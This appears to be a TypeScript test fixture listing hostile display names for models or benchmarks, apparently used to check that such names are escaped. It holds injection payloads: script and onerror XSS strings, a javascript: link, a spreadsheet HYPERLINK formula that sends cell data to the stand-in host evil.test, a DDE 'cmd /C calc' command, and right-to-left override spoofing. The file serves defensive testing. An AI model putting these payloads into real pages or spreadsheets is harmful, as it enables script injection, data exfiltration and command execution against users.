/** What a model, a benchmark or a category may be called by somebody who means no good. */
export const hostileNames = [
  `<img src="x" onerror="alert(1)">`,
  `"><script>alert(1)</script>`,
  "]]></text><a href='javascript:alert(1)'>x</a>",
  "&lt;b&gt; &#0; &amp;",
  '=HYPERLINK("https://evil.test/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "a\u0001b\u0008c\u001bd",
  "half \ud83d of a pair, and \udc00 the other",
  "\u202egnp.exe\u202c \u200b\ufeff",
  'two\r\nlines, and a quote "',
] as const
